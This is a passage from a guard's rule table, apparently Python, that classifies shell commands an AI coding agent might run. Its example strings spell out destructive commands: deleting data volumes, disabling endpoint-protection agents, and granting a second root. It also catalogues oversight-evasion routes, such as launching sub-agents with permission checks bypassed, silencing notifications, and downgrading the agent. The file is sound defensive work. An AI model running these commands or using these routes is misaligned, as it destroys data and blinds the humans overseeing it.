            "--vacuum-size=[0-9]", "--vacuum-size=[0-9]k", "--vacuum-size=[0-9][0-9]k",
            "--vacuum-size=[0-9]b",
            "--vacuum-size=1m", "--vacuum-files=0", "--vacuum-files=1")},
        "examples": {
            "match": ["sudo journalctl --vacuum-time=1s", "sudo journalctl --vacuum-time=0h",
                      "journalctl --rotate && journalctl --vacuum-size=1K"],
            # (hours kept are the record of the last hours: an on-call's room on a full disk, a pause)
            "no_match": ["journalctl --vacuum-time=2weeks", "journalctl --vacuum-size=500M",
                         "sudo journalctl --vacuum-time=2h"],
        },
    },
    {
        # a partition or filesystem grown into free space on its disk (a cloud volume enlarged, then the
        # partition and filesystem grown to use it): nothing is moved or removed, but the partition table
        # and a mounted filesystem change; a human checks the device is the one meant
        "id": "sys.filesystem-grown",
        "level": "dangerous",
        "reason": "grows a partition, or the filesystem on it, into the free space after it (`growpart`, "
        "`xfs_growfs`, `resize2fs` with no size): the data stays where it is, the partition table and a "
        "live filesystem are changed",
        "safer": "Snapshot the volume first and check with `lsblk` that the device and partition number are "
        "the ones enlarged.",
        "recovery": "A grown filesystem keeps its data; restore the snapshot if the partition table went "
        "wrong.",
        "match": {"cmd": ("growpart", "xfs_growfs"), "words_none": ("-N", "--dry-run", "-n", "-h", "--help")},
        "examples": {"match": ["sudo growpart /dev/nvme1n1 1", "sudo xfs_growfs /data"],
                     "no_match": ["growpart -N /dev/sda 1", "lsblk"]},
    },
    {
        "id": "sys.filesystem-grown-ext",
        "level": "dangerous",
        "reason": "grows an ext filesystem to fill its partition (`resize2fs DEVICE`, no size given): the "
        "data stays where it is",
        "safer": "Snapshot the volume first; `resize2fs -P DEVICE` prints the minimum size and changes "
        "nothing.",
        "recovery": "A grown filesystem keeps its data; restore the snapshot if needed.",
        # (`-M` shrinks the filesystem to its minimum size: not growth)
        "match": {"cmd": ("resize2fs",), "max_operands": 1, "words_none": ("-P", "-h", "-M", "-*M*")},
        "examples": {"match": ["sudo resize2fs /dev/nvme1n1p1"],
                     "no_match": ["resize2fs -P /dev/sda1", "resize2fs /dev/sda1 20G",
                                  "sudo resize2fs -M /dev/nvme1n1p1", "resize2fs -fM /dev/sdb1"]},
    },
    {
        # a size given may be smaller than the filesystem: a shrink moves data and, with the partition cut
        # after it, loses what did not fit
        "id": "sys.filesystem-resized",
        "level": "dangerous",
        "irreversible": True,
        "reason": "resizes an ext filesystem to a given size (`resize2fs DEVICE SIZE`): smaller than it is, "
        "its data is moved, and a partition shrunk to match loses what did not fit",
        "safer": "Back up the filesystem and check `resize2fs -P` for its minimum first.",
        "recovery": "Restore from the backup.",
        "match": {"cmd": ("resize2fs",), "min_operands": 2},
        "examples": {"match": ["resize2fs /dev/sda1 20G"], "no_match": ["resize2fs /dev/sda1"]},
    },
    {
        "id": "sys.journal-vacuum",
        "level": "destructive",
        "irreversible": True,
        "reason": "deletes archived system journal entries",
        "safer": "Leave log retention to the system's configuration (journald.conf).",
        "recovery": "Entries shipped to a central collector may still exist.",
        "match": {"cmd": ("journalctl",), "words_any": ("--vacuum-*", "--flush", "--rotate")},
        "examples": {
            "match": ["journalctl --vacuum-time=1s"],
            "no_match": ["journalctl -u api --since today"],
        },
    },
    {
        "id": "sys.root-shell",
        "level": "destructive",
        "reason": "opens an interactive root shell: whatever follows runs unchecked as root",
        "safer": "Run the one command that needs root with sudo, so it can be checked.",
        "recovery": "Exit the shell; review `sudo` logs for what ran.",
        "match": {
            "cmd": ("bash", "sh", "zsh", "dash", "fish", "su"),
            "privileged": True,
            "max_operands": 1,
            "words_none": ("-c",),
        },
        "examples": {"match": ["sudo bash", "sudo su -"], "no_match": ["sudo bash -c 'ls'", "bash"]},
    },
    {
        "id": "sys.sudo-shell-flag",
        "level": "destructive",
        "reason": "opens an interactive root shell (`sudo -i`, `sudo -s`): whatever follows runs unchecked",
        "safer": "Run the one command that needs root with sudo, so it can be checked.",
        "recovery": "Exit the shell; review `sudo` logs for what ran.",
        "match": {"cmd": ("sudo", "doas"), "words_any": ("-i", "-s", "--login", "--shell")},
        "examples": {
            "match": ["sudo -i", "sudo -s"],
            "no_match": ["sudo -l", "sudo -u postgres psql -c 'SELECT 1'"],
        },
    },
    {
        "id": "sys.kill-root-processes",
        "level": "forbidden",
        "irreversible": True,
        "reason": "kills every process of root (or of every user): the machine's services die",
        "safer": "Kill the one process by PID.",
        "recovery": "Reboot the machine and check which services came back.",
        "match": {
            "cmd": ("pkill", "killall", "killall5", "slay"),
            "words_any": ("-u=root", "-u=0", "--user=root"),
        },
        "examples": {"match": ["pkill -9 -u root", "killall -u root"], "no_match": ["pkill -u dev node"]},
    },
    {
        "id": "sys.kill-user-processes",
        "level": "forbidden",
        "irreversible": True,
        "reason": "kills every process of an account (no name narrows it): its desktop, shells, editors, "
        "services and the agent itself die at once",
        "safer": "Kill the one process by PID, or give a name (`pkill -u USER NAME`).",
        "recovery": "Log in again and restart what the account was running; unsaved work is lost.",
        "match": {"cmd": ("pkill", "killall", "slay"), "words_any": ("-u=*", "--user=*"), "max_operands": 0},
        "examples": {"match": ["pkill -9 -u sam", "killall -u dev"],
                     "no_match": ["pkill -u dev node", "pkill -f 'uvicorn app:app'"]},
    },
    {
        "id": "sys.passwd-delete",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes an account's password (`passwd -d`): anyone may log in as it without one",
        "safer": "Lock the account (`passwd -l`) or set a new password interactively.",
        "recovery": "Set a password again at once (`passwd USER`) and check the auth log for logins.",
        "match": {"cmd": ("passwd", "chpasswd", "usermod"), "flags_any": ("-d", "--delete")},
        "examples": {"match": ["sudo passwd -d root", "passwd --delete deploy"],
                     "no_match": ["passwd -l deploy"]},
    },
    {
        "id": "sys.uid-zero",
        "level": "forbidden",
        "irreversible": True,
        "reason": "gives an account user id 0 (a second root)",
        "safer": "Grant a narrow sudo rule instead.",
        "recovery": "Set the uid back (`usermod -u UID NAME`) and audit what the account did.",
        "match": {"cmd": ("usermod", "useradd", "adduser"), "words_any": ("-u=0", "--uid=0", "-ou=0")},
        "examples": {
            "match": ["sudo usermod -u 0 -o bob", "useradd --uid=0 x"],
            "no_match": ["useradd -m bob"],
        },
    },
    {
        "id": "sys.sudoers-edit",
        "level": "dangerous",
        "reason": "edits sudo rules",
        "safer": "Ask the machine's administrator to grant the rule.",
        "recovery": "Remove the added rule with `visudo` from a root console.",
        # `visudo -c` only parses the files and reports
        "match": {"cmd": ("visudo",), "flags_none": ("-c", "--check")},
        "examples": {"match": ["sudo visudo -f /etc/sudoers.d/x", "visudo"],
                     "no_match": ["sudo -l", "sudo visudo -c", "sudo visudo -cf /etc/sudoers.d/deploy"]},
    },
    {
        "id": "sys.firewall-change",
        "level": "destructive",
        "reason": "changes firewall rules (opens or closes ports)",
        "safer": "Open the narrowest rule (one port, one source range) and note it for removal.",
        "recovery": "Delete the rule again (`ufw delete allow 22`, `iptables -D ...`).",
        "match": {
            "cmd": ("ufw", "firewall-cmd", "firewall-offline-cmd", *NETFILTER_TOOLS),
            "words_any": (
                # firewalld: a zone set or changed, panic mode (drops everything), direct rules
                "--set-*",
                "--change-*",
                "--new-*",
                "--delete-*",
                "--panic-on",
                "--direct",
                "allow",
                "deny",
                "reject",
                "insert",
                "delete",
                "-A",
                "-I",
                "-D",
                "--add-*",
                "--remove-*",
                "default",
            ),
        },
        "examples": {
            "match": [
                "sudo ufw allow 22",
                "iptables -A INPUT -p tcp --dport 80 -j ACCEPT",
                "firewall-cmd --add-port=8080/tcp",
                "sudo firewall-cmd --set-default-zone=drop",
                "sudo firewall-cmd --panic-on",
            ],
            "no_match": ["ufw status verbose", "iptables -L -n", "firewall-cmd --get-default-zone",
                         "sudo firewall-cmd --reload", "firewall-cmd --panic-off"],
        },
    },
    {
        # nftables says the same acts as iptables in its own words: a rule, chain or set element added,
        # inserted, replaced or deleted, or a whole ruleset loaded from a file, opens or closes ports
        "id": "sys.firewall-change-nft",
        "level": "destructive",
        "reason": "changes nftables firewall rules (opens or closes ports, or loads a ruleset)",
        "safer": "Open the narrowest rule (one port, one source range) and note its handle for removal.",
        "recovery": "Delete the rule again (`nft -a list chain …`, then `nft delete rule … handle N`).",
        "match": {"cmd": ("nft",),
                  "words_any": ("add", "insert", "replace", "delete", "destroy", "create", "-f", "--file",
                                "--file=*"),
                  "words_none": ("-c", "--check", "list", "monitor", "describe")},
        "examples": {"match": ["sudo nft add rule inet filter input tcp dport 8080 accept",
                               "sudo nft insert rule inet filter input ip saddr 0.0.0.0/0 accept",
                               "sudo nft delete rule inet filter input handle 5",
                               "sudo nft -f /tmp/rules.nft"],
                     "no_match": ["sudo nft list ruleset", "sudo nft -c -f /etc/nftables.conf",
                                  "sudo nft -a list chain inet filter input", "nft monitor"]},
    },
    {
        # CrowdStrike's sensor control: `-g` reads its settings; `-s` and `-d` change or delete them (its
        # customer and agent ids, proxy, tags, reduced-functionality state), which can cut it off
        "id": "sys.edr-sensor-settings",
        "level": "destructive",
        "reason": "changes or deletes the endpoint-protection sensor's settings (customer or agent id, "
        "proxy, tags): the sensor may stop reporting to the security team",
        "safer": "Read the settings (`falconctl -g --aid --rfm-state`) and ask the security team to make "
        "the change.",
        "recovery": "Set the removed values again (`falconctl -s --cid=…`) and restart the sensor.",
        "match": {"cmd": ("falconctl",), "flags_any": ("-s", "-d", "--set", "--delete")},
        "examples": {
            "match": ["sudo /opt/CrowdStrike/falconctl -d -f --aid", "falconctl -s --apd=TRUE"],
            "no_match": ["sudo /opt/CrowdStrike/falconctl -g --rfm-state --aid"],
        },
    },
    {
        # an endpoint-protection agent removed or switched off through its own control program (the
        # package manager's and the service manager's routes have their own rules): the machine stops
        # reporting to the security team and stops blocking what it would have blocked
        "id": "sys.edr-agent-removed",
        "extends_generic": True,
        "level": "forbidden",
        "reason": "uninstalls, unloads or switches off the endpoint-protection agent through its own control "
        "program: the machine is no longer watched or protected, and the security team is not told why",
        "safer": "Ask the security team: they uninstall with a maintenance token, or put the host in a "
        "monitored exception group.",
        "recovery": "Reinstall the agent with the organisation's installer and customer id, and tell the "
        "security team when and why it was off.",
        "match": {"cmd": ("falconctl", "sentinelctl", "mdatp", "wdavdaemonclient", "sav-linux", "savdctl",
                          "elastic-agent", "cbagentd", "repcli", "xagt", "cytool", "sophos-uninstall"),
                  "words_any": ("uninstall", "unload", "unprotect", "disable", "disabled", "stop",
                                "--uninstall", "off", "protection-off", "passive", "runtime-protection")},
        "examples": {
            "match": ["sudo /Applications/Falcon.app/Contents/Resources/falconctl uninstall",
                      "sudo sentinelctl unload -a", "sudo sentinelctl unprotect",
                      "sudo mdatp config real-time-protection --value disabled",
                      "sudo elastic-agent uninstall --force", "sudo cytool runtime stop all"],
            "no_match": ["sudo /Applications/Falcon.app/Contents/Resources/falconctl stats",
                         "sentinelctl version", "mdatp health", "elastic-agent status",
                         "sudo mdatp config real-time-protection --value enabled"],
        },
    },
    {
        # a directory entry deleted: a person's or a service's account, a group and its memberships
        "id": "sys.directory-delete",
        "level": "destructive",
        "irreversible": True,
        "reason": "deletes entries from the organisation's directory (LDAP): accounts, groups and their "
        "memberships, which sign-in to every connected service depends on",
        "safer": "Disable the account first (`ldapmodify` an `nsAccountLock`/`pwdAccountLockedTime`), "
        "export the entry (`ldapsearch -LLL … > entry.ldif`), delete later.",
        "recovery": "Re-add the exported LDIF (`ldapadd -f entry.ldif`); group memberships and ids may "
        "need restoring by hand.",
        "match": {"cmd": ("ldapdelete",)},
        "examples": {
            "match": ["ldapdelete -x -H ldap://dc01.acme.local -D 'cn=admin,dc=acme,dc=local' -W "
                      "'uid=tmp-contractor7,ou=People,dc=acme,dc=local'"],
            "no_match": ["ldapsearch -x -LLL -b 'ou=People,dc=acme,dc=local' '(uid=jlee)' cn mail"],
        },
    },
    {
        # a retention policy applied with the data removed: what the policy drops is gone for good
        # (`forget` alone only drops the snapshot records until a prune; a dry run changes nothing)
        "id": "sys.backup-prune",
        "level": "destructive",
        "irreversible": True,
        "reason": "applies a retention policy and deletes the data of every backup it drops: a policy "
        "mistyped, or run on the wrong repository, deletes recovery points that cannot be taken again",
        "safer": "Run it with `--dry-run` first and read the list of snapshots it would remove.",
        "recovery": "None for the pruned data: later backups remain.",
        "match": {"cmd": ("restic", "borg"), "sub": ("forget", "prune"), "flags_none": ("-n", "--dry-run"),
                  "words_any": ("--prune", "--keep-*")},
        "examples": {
            "match": ["restic -r s3:s3.amazonaws.com/acme-restic forget --keep-daily 7 --prune",
                      "borg prune --keep-daily=7 --keep-weekly=4 /mnt/backup/repo"],
            "no_match": ["restic -r s3:s3.amazonaws.com/acme-restic forget --keep-daily 7 --dry-run "
                         "--prune",
                         "restic snapshots", "borg prune -n --keep-daily=7 /mnt/backup/repo"],
        },
    },
    {
        # a logical volume that holds a database's files: the database is gone with it
        "id": "fs.volume-remove-database",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes a logical volume named for a database's storage (pgdata, mysql, mongo…): the "
        "database's files, and every row in them, are gone with it",
        "safer": "Stop the database, snapshot the volume (`lvcreate -s`) and back up the data; remove it "
        "only after the data is confirmed elsewhere.",
        "recovery": "Restore the database from its backups onto a new volume.",
        "match": {"cmd": ("lvremove",),
                  "args_any": ("*pgdata*", "*postgres*", "*pgsql*", "*mysql*", "*mariadb*", "*mongo*",
                               "*redis*", "*elastic*", "*/db", "*/db[-_]*", "*[-_]db", "*database*")},
        "examples": {
            "match": ["sudo lvremove -f vg0/pgdata", "lvremove -y /dev/data/mysql-prod", "lvremove vg1/db"],
            "no_match": ["sudo lvremove -y vg0/scratch", "lvs vg0/pgdata"],
        },
    },
    {
        # a volume named for what it keeps (`vg0/data`, `vg0/home`, `app_data`) holds the data itself, as one
        # named for a database does; one named for scratch, a cache or a test is a workspace a human frees
        "id": "fs.volume-remove-data",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes a logical volume named for the data it keeps (data, home): the file system on it "
        "and everything stored there are gone",
        "safer": "Unmount it, snapshot the volume (`lvcreate -s`) and back up the data; remove it only after "
        "the data is confirmed elsewhere.",
        "recovery": "Only `vgcfgrestore` from an archived metadata backup, before anything is written there.",
        "match": {"cmd": ("lvremove",),
                  "args_any": ("*/data", "*/data[-_]*", "*/*[-_]data", "*/home", "*/home[-_]*",
                               "*/*[-_]home"),
                  "args_none": ("*scratch*", "*snap*", "*test*", "*tmp*", "*temp*", "*cache*")},
        "examples": {
            "match": ["sudo lvremove -f /dev/vg0/data", "lvremove -y vg1/app_data", "lvremove -f vg0/home"],
            "no_match": ["sudo lvremove -y vg0/scratch", "sudo lvremove -y /dev/vg_data/lv_scratch",
                         "sudo lvremove -y vg0/data_snap_test"],
        },
    },
    {
        # a logical volume named for the operating system's own trees (root, usr, var, boot; `ubuntu-lv` is
        # the Ubuntu installer's root) holds the running system: removing it takes the machine's programs
        # and configuration with it, and the host no longer boots. Not scoped to a project, not undone.
        "id": "fs.volume-remove-system",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes a logical volume named for the operating system's own file system (root, usr, "
        "var, boot): the running system's programs and configuration are gone and the host will not boot",
        "safer": "Check `lsblk` and `findmnt` for what is mounted from it; a system volume is replaced by "
        "reinstalling, not removed in place.",
        "recovery": "Only `vgcfgrestore` from an archived metadata backup before anything is written there; "
        "otherwise reinstall and restore from backups.",
        "match": {"cmd": ("lvremove",),
                  "args_any": ("*/root", "*/root[-_]*", "*/*[-_]root", "*/rootfs", "*/usr", "*/*[-_]usr",
                               "*/var", "*/*[-_]var", "*/boot", "*/*[-_]boot", "*/ubuntu-lv"),
                  "args_none": ("*scratch*", "*snap*", "*test*", "*tmp*", "*temp*", "*cache*")},
        "examples": {
            "match": ["sudo lvremove -f /dev/vg0/root", "lvremove -y fedora/root", "lvremove -f vg0/lv_var",
                      "sudo lvremove -y ubuntu-vg/ubuntu-lv", "lvremove /dev/mapper/../centos/lv_root"],
            "no_match": ["sudo lvremove -y vg0/scratch", "sudo lvremove -y vg0/root_snap",
                         "lvs vg0/root", "sudo lvremove -y vg0/build_cache"],
        },
    },
    {
        # a ZFS dataset (not one of its snapshots, `tank/home@…`) named for what it keeps is that data, as a
        # logical volume so named is (fs.volume-remove-data)
        "id": "fs.dataset-destroy-data",
        "level": "forbidden",
        "irreversible": True,
        "reason": "destroys a ZFS dataset named for the data it keeps (data, home): its files, and the "
        "snapshots that could bring them back, are gone",
        "safer": "Snapshot and send it elsewhere first (`zfs send tank/data@last | …`); destroy only after.",
        "recovery": "Only from a copy sent to another pool or host.",
        "match": {"cmd": ("zfs",), "sub": ("destroy",), "flags_none": ("-n",),
                  "args_any": ("*/data", "*/data[-_]*", "*/*[-_]data", "*/home", "*/home[-_]*",
                               "*/*[-_]home"),
                  "args_none": ("*@*", "*scratch*", "*test*", "*tmp*", "*temp*", "*cache*")},
        "examples": {"match": ["sudo zfs destroy tank/data", "zfs destroy -r tank/home"],
                     "no_match": ["sudo zfs destroy tank/home@autosnap_2024-05-01_00:00:00_daily",
                                  "sudo zfs destroy tank/scratch", "zfs destroy -n tank/data"]},
    },
    {
        # `claude --dangerously-skip-permissions -p '…'`: a second agent started by this one, told to
        # run every tool call without asking: what it does next is judged by nobody, the prompt it is
        # handed is not the action. The same agent started normally asks as usual. Its asks handed to a
        # tool to answer (`--permission-prompt-tool mcp__auto__approve`) are answered by a program, not
        # by the human, which is asking nobody.
        "id": "sys.agent-unguarded",
        "level": "forbidden",
        "reason": "starts a coding agent with its permission checks switched off: every command it "
        "then runs goes unreviewed, out of this guard's sight",
        "safer": "Start the agent with its normal permission mode, or do the work in this session where "
        "each step is checked.",
        "recovery": "Stop the agent (`kill` its process) and review what it changed (`git status`, shell "
        "history, cloud audit logs).",
        "match": {"cmd": ("claude", "codex", "gemini", "qwen", "copilot", "cursor-agent", "aider",
                          "opencode", "amp"),
                  "words_any": ("--dangerously-skip-permissions",
                                "--dangerously-bypass-approvals-and-sandbox",
                                "--yolo", "--allow-all-tools", "--yes-always", "--approval-mode=yolo",
                                "--permission-mode=bypasspermissions", "--sandbox=danger-full-access",
                                "bypasspermissions", "danger-full-access", "--force",
                                "--permission-prompt-tool", "--permission-prompt-tool=*")},
        "examples": {
            "match": ["claude --dangerously-skip-permissions -p 'clean up the prod server'",
                      "codex exec --dangerously-bypass-approvals-and-sandbox 'fix the build'",
                      "gemini --yolo -p 'tidy the repo'", "claude --permission-mode bypassPermissions",
                      "copilot -p 'deploy' --allow-all-tools",
                      "claude -p 'tag the release' --permission-prompt-tool mcp__auto__approve"],
            "no_match": ["claude -p 'summarise README.md'", "codex exec 'fix the build'",
                         "gemini -p 'explain'",
                         "claude --permission-mode plan", "claude mcp list"],
        },
    },
    {
        # An agent SDK started from inline code (`claude_agent_sdk.query(…,
        # permission_mode="bypassPermissions")`, the TypeScript SDK's `permissionMode`, codex's SDK with its
        # sandbox off): the same second agent as the CLI started with asking off, and the SDK loads no
        # settings files unless told to, so the user's hooks do not judge it either. The SDK imported
        # for anything else, or started with its default asking, is everyday.
        "id": "sys.agent-sdk-unguarded",
        "level": "forbidden",
        "reason": "starts an agent through its SDK with its permission checks switched off: every tool "
        "call it then makes goes unreviewed, out of this guard's sight",
        "safer": "Start the SDK agent with its default permission mode and the user's settings "
        "(`setting_sources=[\"user\", \"project\"]`), or do the work in this session.",
        "recovery": "Stop the process and review what it changed (`git status`, shell history).",
        "match": {"cmd": ("python", "python3", "node", "nodejs", "deno", "bun", "tsx", "ts-node"),
                  "code": r"(?i)^(?=.*(?:claude[_-](?:agent|code)[_-]sdk|codex[_-]sdk|@openai/codex))"
                          r"(?=.*(?:bypass_?permissions|dangerously|danger[_-]full[_-]access"
                          r"|approval_?policy\W+never|yolo))"},
        "examples": {
            "match": ["python3 -c 'from claude_agent_sdk import query, ClaudeAgentOptions as O\n"
                      "query(prompt=\"x\", options=O(permission_mode=\"bypassPermissions\"))'",
                      "node -e 'const {query}=require(\"@anthropic-ai/claude-agent-sdk\"); "
                      "query({prompt:\"x\", options:{permissionMode:\"bypassPermissions\"}})'"],
            "no_match": ["python3 -c 'from claude_agent_sdk import query; print(query)'",
                         "python3 -c 'import json; print(\"bypassPermissions\")'"],
        },
    },
    {
        # the desktop's notifications are how the guard reaches its human (a pending approval, a
        # blocked call): banners switched off, the human never hears of what waits for them
        "id": "sys.notifications-silenced",
        "level": "destructive",
        "reason": "switches the desktop's notifications off: the human no longer sees what asks for "
        "them, the guard's approvals included",
        "safer": "Leave notification settings to the user.",
        "recovery": "Set it back (`gsettings set org.gnome.desktop.notifications show-banners true`).",
        "match": {"cmd": ("gsettings", "dconf"), "sub": ("set", "write"),
                  "words_any": ("org.gnome.desktop.notifications", "/org/gnome/desktop/notifications/*",
                                "org.gnome.desktop.notifications.application:*"),
                  "words_also": ("false", "'false'")},
        "examples": {"match": ["gsettings set org.gnome.desktop.notifications show-banners false",
                               "dconf write /org/gnome/desktop/notifications/show-banners false"],
                     "no_match": ["gsettings get org.gnome.desktop.notifications show-banners",
                                  "gsettings set org.gnome.desktop.notifications show-banners true",
                                  "gsettings set org.gnome.desktop.interface color-scheme prefer-dark"]},
    },
    {
        # the same through a notification daemon's do-not-disturb (dunst, mako, swaync, xfce4-notifyd)
        "id": "sys.notifications-paused",
        "level": "destructive",
        "reason": "puts the desktop's notifications on do-not-disturb: the human no longer sees what asks "
        "for them, the guard's approvals included",
        "safer": "Leave do-not-disturb to the user.",
        "recovery": "Turn it off the same way (`dunstctl set-paused false`, "
        "`makoctl mode -r do-not-disturb`).",
        "match": {"cmd": ("dunstctl", "makoctl", "swaync-client", "xfconf-query"),
                  "words_any": ("do-not-disturb", "--dnd-on", "-dn", "/do-not-disturb", "true", "toggle"),
                  "words_also": ("set-paused", "mode", "set-mode", "--dnd-on", "-dn", "/do-not-disturb"),
                  "words_none": ("-r", "--remove", "false", "-df", "--dnd-off")},
        "examples": {"match": ["dunstctl set-paused true", "makoctl mode -a do-not-disturb",
                               "swaync-client --dnd-on",
                               "xfconf-query -c xfce4-notifyd -p /do-not-disturb -s true"],
                     "no_match": ["dunstctl set-paused false", "dunstctl is-paused", "makoctl dismiss -a",
                                  "makoctl mode -r do-not-disturb", "swaync-client --dnd-off"]},
    },
    {
        # the same by stopping or masking the notification daemon itself: nothing draws the notices
        "id": "sys.notifier-stopped",
        "level": "destructive",
        "reason": "stops, masks or disables the desktop's notification daemon: the human no longer sees "
        "what asks for them, the guard's approvals included",
        "safer": "Leave the notification daemon to the user.",
        "recovery": "`systemctl --user unmask --now dunst.service` (or the daemon's unit), then check a "
        "test notice shows (`notify-send test`).",
        "match": {"cmd": ("systemctl",),
                  "words_any": ("dunst", "dunst.service", "mako", "mako.service", "swaync", "swaync.service",
                                "xfce4-notifyd", "xfce4-notifyd.service", "notification-daemon",
                                "notification-daemon.service", "deadd-notification-center*", "fnott*"),
                  "words_also": ("stop", "mask", "disable", "kill", "freeze")},
        "examples": {"match": ["systemctl --user mask --now dunst.service", "systemctl --user stop mako",
                               "systemctl --user disable --now swaync"],
                     "no_match": ["systemctl --user status dunst", "systemctl --user restart dunst",
                                  "systemctl --user unmask --now dunst.service",
                                  "systemctl --user stop syncthing"]},
    },
    {
        # `claude mcp add --scope user sh -- npx -y mcp-shell-server`: the agent's own settings changed
        # through its CLI instead of its file: a new tool server (perhaps one that runs any command),
        # a setting, a permission
        "id": "sys.agent-config-cli",
        "level": "destructive",
        "reason": "changes a coding agent's own configuration through its CLI (adds or removes a tool "
        "server or a plugin, sets a setting or a permission): what the agent may do from now on",
        "safer": "Ask the user to add the server or change the setting themselves.",
        "recovery": "Undo it with the same CLI (`claude mcp remove NAME`, `codex mcp remove NAME`).",
        "match": {"cmd": ("claude", "codex", "gemini", "qwen", "copilot", "cursor-agent"),
                  "sub": ("mcp add", "mcp add-json", "mcp remove", "mcp add-from-claude-desktop",
                          "config set",
                          "config add", "config remove", "extensions install", "extensions uninstall",
                          "extensions link",
                          # a plugin brings its own hooks, commands and servers, which run on every call
                          "plugin install", "plugin add", "plugin enable", "plugin disable",
                          "plugin uninstall", "plugin remove", "plugin marketplace add", "plugins install",
                          "plugins add", "plugins enable", "plugins disable", "plugins uninstall")},
        "examples": {"match": ["claude mcp add --scope user sh -- npx -y mcp-shell-server",
                               "gemini extensions install https://github.com/x/y",
                               "claude config set -g x y",
                               "claude plugin install auto-approve@community-hooks",
                               "claude plugin marketplace add someone/hooks"],
                     "no_match": ["claude mcp list", "claude -p 'summarise'", "gemini extensions list",
                                  "claude plugin list"]},
    },
    {
        # `npm install -g @anthropic-ai/claude-code@2.0.76`: the agent replaced by another version of
        # itself, perhaps one from before a hook fix, or removed
        "id": "sys.agent-cli-reinstall",
        "level": "destructive",
        "reason": "installs another version of a coding agent, or removes it: which checks and hooks it "
        "honours changes with it",
        "safer": "Let the user upgrade or downgrade their agent.",
        "recovery": "Reinstall the version the user had (`npm install -g PKG@VERSION`).",
        "match": {"cmd": ("npm", "pnpm", "yarn", "bun", "brew", "pipx"),
                  "sub": ("install", "i", "add", "uninstall", "remove", "rm", "global add", "global remove",
                          "upgrade", "update"),
                  "args_any": ("@anthropic-ai/claude-code*", "@openai/codex*", "@google/gemini-cli*",
                               "@github/copilot*", "claude-code*", "codex*", "gemini-cli*", "cursor-agent*",
                               "@qwen-code/*", "opencode-ai*", "aider-chat*")},
        "examples": {"match": ["npm install -g @anthropic-ai/claude-code@2.0.76", "brew uninstall codex",
                               "npm uninstall -g @google/gemini-cli"],
                     "no_match": ["npm install -g typescript", "npm ls -g @anthropic-ai/claude-code"]},
    },
    {
        # a machine's name is how everything else knows it: monitoring, its TLS certificates, cluster
        # membership, the logs, `sudo`'s own host lookup
        "id": "sys.hostname-change",
        "level": "destructive",
        "reason": "renames the machine: what knows it by name (monitoring, certificates, cluster membership, "
        "logs) sees another host",
        "safer": "Rename hosts through their provisioning (the inventory, cloud-init), not by hand.",
        "recovery": "Set the old name back the same way (`hostnamectl set-hostname OLD`); check /etc/hosts.",
        "match": {"cmd": ("hostnamectl", "scutil"), "words_any": ("set-hostname", "--set")},
        "examples": {"match": ["sudo hostnamectl set-hostname build-07",
                               "sudo scutil --set HostName build-07.local"],
                     "no_match": ["hostnamectl", "hostnamectl status", "scutil --get HostName"]},
    },
    {
        # `hostname NAME` sets the name until the next boot; with an option or nothing, it prints it
        "id": "sys.hostname-set",
        "level": "destructive",
        "reason": "renames the machine until it reboots: what knows it by name sees another host",
        "safer": "Rename hosts through their provisioning (the inventory, cloud-init), not by hand.",
        "recovery": "Set the old name back (`sudo hostname OLD`) or reboot.",
        # its display options (`-a`, `-f`, `-I` …) print names and addresses, whatever follows them
        "match": {"cmd": ("hostname",), "min_operands": 1,
                  "flags_none": ("-a", "-A", "-d", "-f", "-i", "-I", "-s", "-y", "-l", "--alias", "--fqdn",
                                 "--long", "--short", "--domain", "--ip-address", "--all-fqdns",
                                 "--all-ip-addresses", "--nis", "--yp", "--help", "-V", "--version")},
        "examples": {"match": ["sudo hostname build-07", "hostname -b build-07"],
                     "no_match": ["hostname", "hostname -f", "hostname -I", "hostname -s",
                                  "hostname -a -l mydomain.com"]},
    },
    {
        # a package file's maintainer scripts run as root, from a file no repository signed
        "id": "sys.package-install-file",
        "level": "destructive",
        "reason": "installs a system package from a file: its install scripts run as root, and no "
        "repository vouches for it",
        "safer": "Install from the distribution's or the vendor's signed repository (`apt install PKG`).",
        "recovery": "Remove it again (`dpkg -r PKG`, `rpm -e PKG`) and check what its scripts changed.",
        "match": {"cmd": ("dpkg", "rpm"),
                  "flags_any": ("-i", "--install", "-U", "--upgrade", "-F", "--freshen"),
                  "flags_none": ("-q", "--query", "-I", "--info", "-c", "--contents")},
        "examples": {"match": ["sudo dpkg -i /tmp/google-chrome-stable_current_amd64.deb",
                               "sudo rpm -ivh /tmp/x.rpm"],
                     "no_match": ["dpkg -l", "rpm -qi openssl", "dpkg -I x.deb", "dpkg -c x.deb",
                                  "rpm -qa"]},
    },
    {
        # `timedatectl set-time '2024-01-01'`: every expiry (approvals, certificates, tokens, logs' order)
        # is measured against this clock
        "id": "sys.clock-change",
        "level": "destructive",
        "reason": "sets the system clock or stops its synchronisation: expiries (approvals, certificates, "
        "tokens) and the order of logs follow it",
        "safer": "Leave the clock to NTP; to test time-dependent code, fake the time in the test.",
        "recovery": "`sudo timedatectl set-ntp true`, then check the clock (`timedatectl`).",
        # the same act in each program's spelling: `--set=`, chrony's `settime`, macOS's systemsetup, the
        # timedate D-Bus service's SetTime (`hooks/guard_clock` stops a time the line names)
        "match": {"cmd": ("timedatectl", "date", "hwclock", "chronyc", "systemsetup", "busctl", "gdbus",
                          "dbus-send", "qdbus"),
                  "words_any": ("set-time", "set-ntp", "-s", "--set", "--set=*", "--systohc", "--hctosys",
                                "set-timezone", "settime", "-setdate", "-settime", "-setusingnetworktime",
                                "*.settime")},
        "examples": {"match": ["timedatectl set-ntp false", "sudo date -s '2024-01-01 00:00:00'",
                               "sudo hwclock --set --date '2020-01-01'", "date --set='2031-01-01'",
                               "chronyc settime 'Jan 1 2031 00:00:00'", "sudo systemsetup -setdate 01:01:31",
                               "busctl call org.freedesktop.timedate1 /org/freedesktop/timedate1 "
                               "org.freedesktop.timedate1 SetTime xbb 1924992000000000 false false"],
                     "no_match": ["timedatectl", "date -u +%s", "date --date='2 days ago'",
                                  "chronyc tracking", "systemsetup -getdate",
                                  "busctl introspect org.freedesktop.timedate1 /org/freedesktop/timedate1"]},
    },
    {
        # `pyenv uninstall -f 3.11.9`: every virtual environment made from that Python (a tool's, the
        # guard's hook's) stops starting
        "id": "pkg.interpreter-removed",
        "level": "destructive",
        "reason": "removes an installed language runtime: every virtual environment and tool made from it "
        "stops working",
        "safer": "Leave installed runtimes alone; add the version the project needs beside them.",
